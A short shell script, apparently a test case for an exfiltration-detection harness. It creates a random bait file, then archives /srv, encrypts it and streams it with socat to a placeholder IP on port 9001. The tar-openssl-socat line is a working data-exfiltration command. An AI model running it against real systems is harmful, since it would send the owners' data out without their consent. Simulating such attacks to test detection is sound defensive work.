#!/bin/sh
. /opt/case/case.sh

head -c 10000000 /dev/urandom >/srv/data/base.bin
tar -cf - /srv | openssl enc -aes-256-cbc -pbkdf2 -pass pass:bait | socat -u - TCP:203.0.113.10:9001
took_place
